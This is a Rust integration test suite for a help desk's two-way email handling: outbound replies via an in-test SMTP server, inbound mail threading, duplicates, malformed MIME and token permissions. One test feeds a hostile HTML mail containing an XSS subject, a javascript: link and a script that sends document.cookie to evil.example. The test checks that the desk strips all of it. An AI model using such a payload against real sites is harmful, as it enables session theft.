//! Email both ways, over real sockets: the desk's reply leaves through the outbox job to an SMTP
//! server started inside the test, the customer's answer comes back as a raw message posted over
//! HTTP to the inbound endpoint and lands on the same ticket. Plus threading by the `+T` tag, new
//! tickets from unknown threads, duplicates, broken MIME, hostile HTML and who may post.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use app::jobs::Runner;
use app::notify::{EmailConfig, Secret};
use app::tickets::{self, ActionInput, MessageInput, TicketInput};
use app::{App, Clock, Ctx, Settings, SystemClock};
use domain::{Scope, TicketId};
use serde_json::Value;
use store::tickets::TicketQuery;
use testkit::each_backend;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use web::AppState;

// ---------------------------------------------------------------- an SMTP server

/// Every message the sink accepted: (RCPT TO, DATA).
type Mailbox = Arc<Mutex<Vec<(Vec<String>, String)>>>;

/// Enough SMTP to take messages: 220, EHLO/HELO → 250, MAIL/RCPT → 250, DATA → 354 … `.` → 250,
/// RSET/NOOP → 250, QUIT → 221.
async fn smtp_sink() -> (SocketAddr, Mailbox) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let mailbox = Mailbox::default();
    let shared = mailbox.clone();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let mailbox = shared.clone();
            tokio::spawn(async move {
                let (read, mut write) = stream.into_split();
                let mut lines = BufReader::new(read);
                if write.write_all(b"220 sink.test ESMTP\r\n").await.is_err() {
                    return;
                }
                let mut rcpt = Vec::new();
                let mut line = String::new();
                loop {
                    line.clear();
                    if lines.read_line(&mut line).await.unwrap_or(0) == 0 {
                        return;
                    }
                    let upper = line.to_ascii_uppercase();
                    let reply = if upper.starts_with("EHLO") || upper.starts_with("HELO") {
                        "250 sink.test\r\n".to_string()
                    } else if upper.starts_with("MAIL FROM:") {
                        "250 2.1.0 Ok\r\n".into()
                    } else if upper.starts_with("RCPT TO:") {
                        rcpt.push(line[8..].trim().to_string());
                        "250 2.1.5 Ok\r\n".into()
                    } else if upper.starts_with("DATA") {
                        let _ = write
                            .write_all(b"354 End data with <CR><LF>.<CR><LF>\r\n")
                            .await;
                        let mut data = String::new();
                        loop {
                            line.clear();
                            if lines.read_line(&mut line).await.unwrap_or(0) == 0 {
                                return;
                            }
                            if line == ".\r\n" {
                                break;
                            }
                            data.push_str(line.strip_prefix('.').unwrap_or(&line));
                        }
                        let mut m = mailbox.lock().unwrap();
                        m.push((std::mem::take(&mut rcpt), data));
                        format!("250 2.0.0 Ok: queued as Q{}\r\n", m.len())
                    } else if upper.starts_with("QUIT") {
                        let _ = write.write_all(b"221 2.0.0 Bye\r\n").await;
                        return;
                    } else {
                        "250 2.0.0 Ok\r\n".into()
                    };
                    if write.write_all(reply.as_bytes()).await.is_err() {
                        return;
                    }
                }
            });
        }
    });
    (addr, mailbox)
}

/// A captured mail: its unfolded header fields (lower-case names) and what `app::mail` reads.
struct Sent {
    to: Vec<String>,
    headers: Vec<(String, String)>,
    subject: String,
    text: String,
}

impl Sent {
    fn of(rcpt: &[String], data: &str) -> Self {
        let head = data.split("\r\n\r\n").next().unwrap_or("");
        let mut headers: Vec<(String, String)> = Vec::new();
        for l in head.split("\r\n") {
            if l.starts_with(' ') || l.starts_with('\t') {
                if let Some(last) = headers.last_mut() {
                    last.1.push(' ');
                    last.1.push_str(l.trim());
                }
            } else if let Some((k, v)) = l.split_once(':') {
                headers.push((k.to_ascii_lowercase(), v.trim().to_string()));
            }
        }
        let read = app::mail::read(data.as_bytes());
        Self {
            to: rcpt.to_vec(),
            headers,
            subject: read.envelope.subject.unwrap_or_default(),
            text: read.content.map(|c| c.text).unwrap_or_default(),
        }
    }

    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }
}

// ---------------------------------------------------------------- the desk, served over TCP

struct Desk {
    app: App,
    admin: Ctx,
    token: String,
    base: String,
    http: reqwest::Client,
    runner: Runner,
    sink: Mailbox,
}

async fn desk(db: store::Db) -> Desk {
    let (smtp, sink) = smtp_sink().await;
    let settings = Settings {
        email: Some(EmailConfig {
            smtp_url: Secret::new(format!("smtp://{smtp}")),
            from: "客服中心 <service@kefu.test>".into(),
        }),
        ..Settings::default()
    };
    let app = App::new(db, Arc::new(web::assets::regions()), settings);
    let clock: Arc<dyn Clock> = Arc::new(SystemClock);
    let sys = Ctx::system("test", clock.clone());
    let admin_id = app::admin::init_admin(&app, &sys, "admin", "secret-pass-1")
        .await
        .unwrap();
    app::admin::create_unit(
        &app,
        &sys,
        app::admin::UnitInput {
            parent_id: None,
            kind: "department".into(),
            function: Some("service".into()),
            code: "SVC".into(),
            name: "客服中心".into(),
            city_code: None,
            active: true,
        },
    )
    .await
    .unwrap();
    let admin = principal_ctx(&app, &sys, admin_id, &clock).await;
    let (_, token) = app::auth::create_token(&app, &admin, "postfix", None)
        .await
        .unwrap();
    let router = web::router(AppState {
        app: app.clone(),
        clock: clock.clone(),
        metrics: None,
        secure_cookies: false,
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, router).await });
    let runner = Runner::standard(app.clone(), clock, "mail-test").unwrap();
    Desk {
        app,
        admin,
        token,
        base,
        http: reqwest::Client::new(),
        runner,
        sink,
    }
}

async fn principal_ctx(app: &App, sys: &Ctx, id: domain::UserId, clock: &Arc<dyn Clock>) -> Ctx {
    let user = app::admin::user(app, sys, id).await.unwrap();
    app::auth::Principal::of_user(user, None).unwrap().ctx(
        clock.clone(),
        String::new(),
        "zh-CN".into(),
    )
}

struct Answer {
    status: u16,
    body: Value,
}

impl Desk {
    async fn post_mail_as(&self, token: Option<&str>, content_type: &str, raw: Vec<u8>) -> Answer {
        let mut req = self
            .http
            .post(format!("{}/api/v1/inbound/email", self.base))
            .header("content-type", content_type)
            .body(raw);
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        let res = req.send().await.unwrap();
        let status = res.status().as_u16();
        let body = res.json().await.unwrap_or(Value::Null);
        Answer { status, body }
    }

    async fn post_mail(&self, raw: &str) -> Answer {
        self.post_mail_as(Some(&self.token), "message/rfc822", raw.as_bytes().to_vec())
            .await
    }

    async fn get(&self, path: &str) -> (u16, Vec<u8>) {
        let res = self
            .http
            .get(format!("{}{path}", self.base))
            .bearer_auth(&self.token)
            .send()
            .await
            .unwrap();
        (res.status().as_u16(), res.bytes().await.unwrap().to_vec())
    }

    /// Runs the due jobs (the outbox deliveries) and returns the mails the SMTP server got.
    async fn deliver(&self) -> Vec<Sent> {
        for _ in 0..3 {
            let s = self.runner.run_once().await.unwrap();
            assert_eq!(
                s.retried + s.dead + s.lost,
                0,
                "every mail delivered: {s:?}"
            );
            if s.claimed == 0 {
                break;
            }
        }
        let mut m = self.sink.lock().unwrap();
        m.drain(..).map(|(to, data)| Sent::of(&to, &data)).collect()
    }

    async fn ticket(&self, id: i64) -> tickets::TicketView {
        tickets::get(&self.app, &self.admin, TicketId(id))
            .await
            .unwrap()
    }

    async fn ticket_count(&self) -> usize {
        self.app
            .db
            .read(|c| {
                Box::pin(async move {
                    store::tickets::list(
                        c,
                        &Scope::All,
                        &TicketQuery {
                            limit: 200,
                            ..TicketQuery::default()
                        },
                    )
                    .await
                })
            })
            .await
            .unwrap()
            .items
            .len()
    }

    async fn recorded_message_ids(&self, ticket: i64) -> Vec<Option<String>> {
        self.app
            .db
            .read(move |c| {
                Box::pin(async move { store::tickets::messages(c, TicketId(ticket), true).await })
            })
            .await
            .unwrap()
            .into_iter()
            .map(|m| m.email_message_id)
            .collect()
    }
}

fn angle(id: &str) -> String {
    format!("<{}>", id.trim_matches(['<', '>']))
}

// ---------------------------------------------------------------- the tests

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_desk_reply_by_mail_and_the_customers_answers_share_one_ticket() {
    each_backend(|db, which| async move {
        let d = desk(db).await;
        let created = tickets::create(
            &d.app,
            &d.admin,
            TicketInput {
                kind: "repair_request".into(),
                subject: "洗衣机漏水".into(),
                description: "电话报修:滚筒下方漏水".into(),
                contact_name: Some("王先生".into()),
                contact_email: Some("wang@example.cn".into()),
                ..TicketInput::default()
            },
        )
        .await
        .unwrap();
        let (tid, number) = (created.id, created.number.clone());
        let received = d.deliver().await;
        assert_eq!(received.len(), 1, "{which:?}: the acknowledgement");
        assert_eq!(
            received[0].header("reply-to").map(|r| r.contains(&format!("<service+T{number}@kefu.test>"))),
            Some(true),
            "{which:?}: every ticket mail answers to the ticket's +T address: {:?}",
            received[0].headers
        );

        // The desk replies: the mail goes out through the outbox job to the SMTP server.
        let mid = tickets::add_message(
            &d.app,
            &d.admin,
            TicketId(tid),
            MessageInput {
                body: "您好,请拍一张漏水位置的照片回复给我们。".into(),
                internal: false,
            },
        )
        .await
        .unwrap()
        .id;
        let sent = d.deliver().await;
        assert_eq!(sent.len(), 1, "{which:?}");
        let reply = &sent[0];
        assert_eq!(reply.to, vec!["<wang@example.cn>".to_string()]);
        assert_eq!(reply.subject, format!("Re: [{number}] 洗衣机漏水"));
        let reply_id = reply.header("message-id").unwrap().to_string();
        assert_eq!(reply_id, format!("<ticket-{tid}-msg-{mid}@kefu.test>"));
        assert!(reply.header("in-reply-to").is_none(), "nothing to answer yet");
        assert!(reply.text.contains("请拍一张漏水位置的照片"), "{}", reply.text);
        assert!(
            d.recorded_message_ids(tid)
                .await
                .contains(&Some(format!("ticket-{tid}-msg-{mid}"))),
            "{which:?}: the reply's ticket message records the Message-ID it went out with"
        );

        // The customer answers that mail (to the plain address: the Message-ID threads it), in
        // HTML and text, quoting our mail, with a photo.
        let answer = format!(
            "From: =?utf-8?b?546L5YWI55Sf?= <wang@example.cn>\r\n\
             To: service@kefu.test\r\n\
             Subject: Re: [{number}] =?utf-8?b?5rSX6KGj5py65ryP5rC0?=\r\n\
             Message-ID: <answer-1@mail.example.cn>\r\n\
             In-Reply-To: {reply_id}\r\n\
             References: {reply_id}\r\n\
             MIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"outer\"\r\n\
             \r\n\
             --outer\r\n\
             Content-Type: multipart/alternative; boundary=\"alt\"\r\n\
             \r\n\
             --alt\r\n\
             Content-Type: text/plain; charset=utf-8\r\n\
             Content-Transfer-Encoding: 8bit\r\n\
             \r\n\
             照片见附件,漏水在左下角。\r\n\
             \r\n\
             在 2026年11月30日 10:00,客服中心 <service@kefu.test> 写道:\r\n\
             > 您好,请拍一张漏水位置的照片回复给我们。\r\n\
             --alt\r\n\
             Content-Type: text/html; charset=utf-8\r\n\
             \r\n\
             <p>照片见附件,漏水在左下角。</p><blockquote>您好</blockquote>\r\n\
             --alt--\r\n\
             --outer\r\n\
             Content-Type: image/jpeg; name=\"leak.jpg\"\r\n\
             Content-Disposition: attachment; filename=\"leak.jpg\"\r\n\
             Content-Transfer-Encoding: base64\r\n\
             \r\n\
             /9j/4AAQSkZJRgABAQ==\r\n\
             --outer--\r\n"
        );
        let r = d.post_mail(&answer).await;
        assert_eq!(r.status, 201, "{which:?}: {}", r.body);
        assert_eq!(r.body["status"], "threaded", "{}", r.body);
        assert_eq!(r.body["ticket_id"], tid);
        assert_eq!(r.body["ticket_number"], number.as_str());
        let t = d.ticket(tid).await;
        let last = t.messages.last().unwrap();
        assert_eq!((last.visibility.as_str(), last.channel.as_str()), ("inbound", "email"));
        assert!(last.body.starts_with("照片见附件,漏水在左下角。"), "{}", last.body);
        assert!(!last.body.contains("写道"), "the quoted mail is left out: {}", last.body);
        assert!(last.body.contains("leak.jpg (image/jpeg, 13 B)"), "{}", last.body);
        assert!(last.author.contains("wang@example.cn"), "{}", last.author);
        assert_eq!(t.history.last().unwrap().event, "inbound");
        assert_eq!(t.history.last().unwrap().data["matched_by"], "message_id");
        assert_eq!(t.history.last().unwrap().data["from_contact"], true);
        let messages = t.messages.len();

        // The MTA posts the same mail again: acknowledged, not added twice.
        let again = d.post_mail(&answer).await;
        assert_eq!(again.status, 200, "{}", again.body);
        assert_eq!(again.body["duplicate"], true);
        assert_eq!(again.body["id"], r.body["id"]);
        assert_eq!(d.ticket(tid).await.messages.len(), messages, "{which:?}");

        // The next reply answers the customer's mail.
        tickets::add_message(
            &d.app,
            &d.admin,
            TicketId(tid),
            MessageInput {
                body: "收到,师傅明天上午上门。".into(),
                internal: false,
            },
        )
        .await
        .unwrap();
        let sent = d.deliver().await;
        assert_eq!(sent.len(), 1);
        assert_eq!(sent[0].header("in-reply-to"), Some("<answer-1@mail.example.cn>"));
        assert_eq!(sent[0].header("references"), Some("<answer-1@mail.example.cn>"));

        // A new mail without any reference, sent to the +T address: threaded by the tag
        // (some relays lower-case it).
        let tagged = format!(
            "From: wang@example.cn\r\nTo: service+t{}@kefu.test\r\nSubject: 补充\r\nMessage-ID: <tagged-1@mail.example.cn>\r\n\r\n型号是 XQG100。\r\n",
            number.to_lowercase()
        );
        let r = d.post_mail(&tagged).await;
        assert_eq!((r.status, r.body["status"].as_str()), (201, Some("threaded")), "{}", r.body);
        assert_eq!(r.body["ticket_id"], tid);
        let t = d.ticket(tid).await;
        assert_eq!(t.messages.last().unwrap().body, "型号是 XQG100。");
        assert_eq!(t.history.last().unwrap().data["matched_by"], "reply_tag");

        // Resolved: the customer answers the resolution mail that it is not fixed. The mail goes
        // on the ticket for the tracker to see; the ticket is not reopened by a mail.
        let v = d.ticket(tid).await.summary.version;
        tickets::act(
            &d.app,
            &d.admin,
            TicketId(tid),
            v,
            ActionInput::Resolve {
                summary: "更换了排水泵密封圈".into(),
            },
        )
        .await
        .unwrap();
        let sent = d.deliver().await;
        let resolved = sent
            .iter()
            .find(|m| m.subject.contains("已处理"))
            .expect("the resolution mail");
        let resolved_id = resolved.header("message-id").unwrap().to_string();
        let not_fixed = format!(
            "From: wang@example.cn\r\nTo: service@kefu.test\r\nSubject: Re: resolved\r\nMessage-ID: <not-fixed@mail.example.cn>\r\nIn-Reply-To: {}\r\n\r\n还是漏水,没有修好。\r\n\r\nOn Tue, 1 Dec 2026 at 09:00, 客服中心 <service@kefu.test> wrote:\r\n> 您的问题已处理完毕\r\n",
            angle(&resolved_id)
        );
        let r = d.post_mail(&not_fixed).await;
        assert_eq!((r.status, r.body["status"].as_str()), (201, Some("threaded")), "{}", r.body);
        let t = d.ticket(tid).await;
        assert_eq!(t.summary.status, "resolved", "{which:?}: a mail does not reopen");
        assert_eq!(t.history.last().unwrap().event, "inbound_after_resolve");
        assert_eq!(t.messages.last().unwrap().body, "还是漏水,没有修好。");
        assert_eq!(d.ticket_count().await, 1, "{which:?}: every mail went onto the one ticket");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_threads_open_tickets_and_broken_or_hostile_mail_is_handled() {
    each_backend(|db, which| async move {
        let d = desk(db).await;
        let customer = app::ledger::create_customer(
            &d.app,
            &d.admin,
            app::ledger::CustomerInput {
                kind: "individual".into(),
                name: "李女士".into(),
                phone: Some("13900001111".into()),
                email: Some("Li@Example.cn".into()),
                ..app::ledger::CustomerInput::default()
            },
        )
        .await
        .unwrap()
        .id;

        // A known customer writes for the first time: a consultation ticket under her record.
        let first = "From: =?utf-8?b?5p2O5aWz5aOr?= <li@example.cn>\r\nTo: service@kefu.test\r\nSubject: Fwd: =?utf-8?b?6LSt5Lmw5ZKo6K+i?=\r\nMessage-ID: <li-1@example.cn>\r\nDate: Mon, 30 Nov 2026 10:00:00 +0800\r\n\r\n请问烘干机有货吗?\r\n";
        let r = d.post_mail(first).await;
        assert_eq!((r.status, r.body["status"].as_str()), (201, Some("created")), "{which:?}: {}", r.body);
        let t = d.ticket(r.body["ticket_id"].as_i64().unwrap()).await;
        assert_eq!(t.summary.kind, "consultation");
        assert_eq!(t.summary.channel, "email");
        assert_eq!(t.summary.subject, "购买咨询", "Fwd: is dropped");
        assert_eq!(t.summary.customer_id, Some(customer.0));
        assert_eq!(t.contact_email.as_deref(), Some("li@example.cn"));
        assert_eq!(t.contact_name.as_deref(), Some("李女士"));
        assert_eq!(t.description, "请问烘干机有货吗?");
        assert_eq!(t.summary.owner.kind, "queue", "{which:?}: it waits in the intake queue");
        let ack = d.deliver().await;
        assert_eq!(ack.len(), 1);
        assert!(
            ack[0]
                .header("reply-to")
                .is_some_and(|r| r.contains(&format!("service+T{}@kefu.test", t.summary.number))),
            "{:?}",
            ack[0].headers
        );

        // A stranger: a new ticket with the sender as contact and no customer.
        let stranger = "From: someone@other.example\r\nTo: service@kefu.test\r\nSubject: Re: hello\r\nMessage-ID: <s-1@other.example>\r\nIn-Reply-To: <unknown-thread@elsewhere.example>\r\n\r\nHi, is anyone there?\r\n";
        let r = d.post_mail(stranger).await;
        assert_eq!(r.body["status"], "created", "{}", r.body);
        let t = d.ticket(r.body["ticket_id"].as_i64().unwrap()).await;
        assert_eq!((t.summary.customer_id, t.contact_email.as_deref()), (None, Some("someone@other.example")));
        assert_eq!(t.summary.subject, "hello");

        // Hostile HTML: kept as text only — no markup, no script.
        let hostile = "From: x@evil.example\r\nTo: service@kefu.test\r\nSubject: <img src=x onerror=alert(1)>\r\nMessage-ID: <evil-1@evil.example>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script><style>body{display:none}</style></head><body><p>Please <a href=\"javascript:alert(2)\">click</a> <b>here</b></p><iframe src=\"https://evil.example\"></iframe></body></html>\r\n";
        let r = d.post_mail(hostile).await;
        assert_eq!(r.body["status"], "created", "{}", r.body);
        let t = d.ticket(r.body["ticket_id"].as_i64().unwrap()).await;
        assert_eq!(t.description, "Please click here");
        for bad in ["<", "script", "fetch", "cookie", "javascript", "iframe", "display"] {
            assert!(!t.description.contains(bad), "{bad} in {:?}", t.description);
        }
        let tickets_before = d.ticket_count().await;

        // Broken MIME: a multipart whose closing boundary never comes (truncated in transit).
        let broken = "From: wang@example.cn\r\nTo: service@kefu.test\r\nSubject: photo\r\nMessage-ID: <broken-1@example.cn>\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nsee photo\r\n--b1\r\nContent-Type: image/jpeg\r\nContent-Transfer-Encoding: base64\r\n\r\n/9j/4AAQSkZJRgABAQ";
        let r = d.post_mail(broken).await;
        assert_eq!((r.status, r.body["error"]["code"].as_str()), (422, Some("malformed_mail")), "{which:?}: {}", r.body);
        let failed_id = r.body["error"]["existing_id"].as_i64().expect("the stored mail's id");
        assert!(r.body["error"]["message"].as_str().unwrap().contains("closing boundary"), "{}", r.body);
        // Posted again (an MTA retry): the same answer, still one row.
        let r = d.post_mail(broken).await;
        assert_eq!((r.status, r.body["error"]["existing_id"].as_i64()), (422, Some(failed_id)));
        // Not even a message: refused the same way and kept.
        let junk = d
            .post_mail_as(Some(&d.token), "application/octet-stream", vec![0xff, 0xfe, 0x00, 0x41, 0x42])
            .await;
        assert_eq!((junk.status, junk.body["error"]["code"].as_str()), (422, Some("malformed_mail")), "{}", junk.body);
        assert_eq!(d.ticket_count().await, tickets_before, "{which:?}: nothing made of broken mail");

        // The administrator sees them with the reason, and the bytes as received.
        let (status, body) = d.get("/api/v1/inbound/email?status=failed").await;
        assert_eq!(status, 200);
        let list: Value = serde_json::from_slice(&body).unwrap();
        let items = list["items"].as_array().unwrap();
        assert_eq!(items.len(), 2, "{list}");
        let row = items.iter().find(|i| i["id"] == failed_id).unwrap();
        assert_eq!(row["status"], "failed");
        assert_eq!(row["message_id"], "broken-1@example.cn");
        assert_eq!(row["from"], "wang@example.cn");
        assert!(row["error"].as_str().unwrap().contains("closing boundary"), "{row}");
        assert!(row["ticket_id"].is_null());
        let (status, raw) = d.get(&format!("/api/v1/inbound/email/{failed_id}/raw")).await;
        assert_eq!((status, raw.as_slice()), (200, broken.as_bytes()));
        let (_, body) = d.get("/api/v1/inbound/email").await;
        let all: Value = serde_json::from_slice(&body).unwrap();
        let statuses: Vec<&str> = all["items"].as_array().unwrap().iter().map(|i| i["status"].as_str().unwrap()).collect();
        assert_eq!(statuses, ["failed", "failed", "created", "created", "created"], "{which:?}");
        let (status, _) = d.get("/api/v1/inbound/email?status=lost").await;
        assert_eq!(status, 422);
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_tokens_that_may_create_tickets_post_mail_and_only_mail() {
    each_backend(|db, which| async move {
        let d = desk(db).await;
        let mail = "From: a@example.cn\r\nTo: service@kefu.test\r\nSubject: hi\r\nMessage-ID: <auth-1@example.cn>\r\n\r\nhello\r\n";
        let r = d.post_mail_as(None, "message/rfc822", mail.into()).await;
        assert_eq!((r.status, r.body["error"]["code"].as_str()), (401, Some("unauthenticated")));
        let r = d.post_mail_as(Some(&d.token), "application/json", mail.into()).await;
        assert_eq!((r.status, r.body["error"]["code"].as_str()), (415, Some("unsupported_media_type")));

        // A dispatcher may not create tickets, so its token may not post mail.
        let sys = Ctx::system("test", Arc::new(SystemClock));
        let id = app::admin::create_user(
            &d.app,
            &sys,
            app::admin::UserInput {
                login: "disp".into(),
                display_name: "调度".into(),
                roles: vec!["dispatcher".into()],
                password: Some("secret-pass-2".into()),
                active: true,
                ..app::admin::UserInput::default()
            },
        )
        .await
        .unwrap();
        let clock: Arc<dyn Clock> = Arc::new(SystemClock);
        let disp = principal_ctx(&d.app, &sys, id, &clock).await;
        let (_, disp_token) = app::auth::create_token(&d.app, &disp, "x", None).await.unwrap();
        let r = d.post_mail_as(Some(&disp_token), "message/rfc822", mail.into()).await;
        assert_eq!((r.status, r.body["error"]["code"].as_str()), (403, Some("forbidden")), "{}", r.body);
        let res = d
            .http
            .get(format!("{}/api/v1/inbound/email", d.base))
            .bearer_auth(&disp_token)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status().as_u16(), 403, "the list is for administrators and managers");

        // A mail over 1 MiB (a photo) is taken; one over 10 MiB is refused before it is read.
        let photo = "QUJD".repeat(700_000);
        let big = format!(
            "From: a@example.cn\r\nTo: service@kefu.test\r\nSubject: big\r\nMessage-ID: <big-1@example.cn>\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nphoto attached\r\n--b\r\nContent-Type: image/jpeg; name=\"p.jpg\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{photo}\r\n--b--\r\n"
        );
        assert!(big.len() > 2 * 1024 * 1024);
        let r = d.post_mail(&big).await;
        assert_eq!((r.status, r.body["status"].as_str()), (201, Some("created")), "{which:?}: {}", r.body);
        // (Over a raw socket: the server answers as soon as it has the headers, so a client
        // still writing the body would only see the connection close.)
        let mut tcp = tokio::net::TcpStream::connect(d.base.trim_start_matches("http://"))
            .await
            .unwrap();
        let head = format!(
            "POST /api/v1/inbound/email HTTP/1.1\r\nHost: kefu.test\r\nAuthorization: Bearer {}\r\nContent-Type: message/rfc822\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            d.token,
            web::MAX_MAIL_BYTES + 1
        );
        tcp.write_all(head.as_bytes()).await.unwrap();
        let mut answer = String::new();
        tokio::io::AsyncReadExt::read_to_string(&mut tcp, &mut answer)
            .await
            .unwrap();
        assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
        assert!(answer.contains("\"payload_too_large\""), "{answer}");
        let (_, body) = d.get("/api/v1/inbound/email").await;
        let all: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(all["items"].as_array().unwrap().len(), 1, "{which:?}: only the accepted mail is stored");
        assert_eq!(all["items"][0]["attachments"][0]["name"], "p.jpg");
    })
    .await;
}
